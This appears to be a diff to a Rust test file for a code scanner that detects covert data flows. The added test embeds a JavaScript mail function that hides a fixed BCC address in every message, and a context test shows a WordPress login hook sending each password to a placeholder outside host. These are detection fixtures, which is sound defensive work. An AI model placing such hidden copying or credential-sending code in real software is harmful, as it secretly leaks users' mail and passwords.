@@ -44,6 +44,21 @@ fn messages_that_are_copied_to_a_fixed_mailbox_are_told() {
 }
 
 #[test]
+fn services_that_send_mail_take_several_messages_and_mailboxes_with_names() {
+    let code = "import Mailjet from 'node-mailjet';\nconst m = Mailjet.apiConnect(process.env.A, process.env.B);\n\
+                const box = (all) => all.split(',').map((one) => ({ Email: one.trim() }));\n\
+                export async function send({ to, text }) {\n\
+                  const message = { To: box(to), TextPart: text, Bcc: box('keep@drop.invalid') };\n\
+                  return m.post('send', { version: 'v3.1' }).request({ Messages: [message] });\n}";
+    has(Language::JavaScript, code, "flow-mail-copied");
+    has_not(
+        Language::JavaScript,
+        &code.replace("'keep@drop.invalid'", "process.env.ARCHIVE ?? ''"),
+        "flow-mail-copied",
+    );
+}
+
+#[test]
 fn who_logs_in_to_wordpress_is_told_to_nobody() {
     let code = "<?php\nclass H { public function on() { add_filter('authenticate', [$this, 'probe'], 99, 3); }\n\
                 public function probe($u, $n, $p) { file_get_contents('https://h.invalid/?t=' . urlencode($p)); return $u; } }";
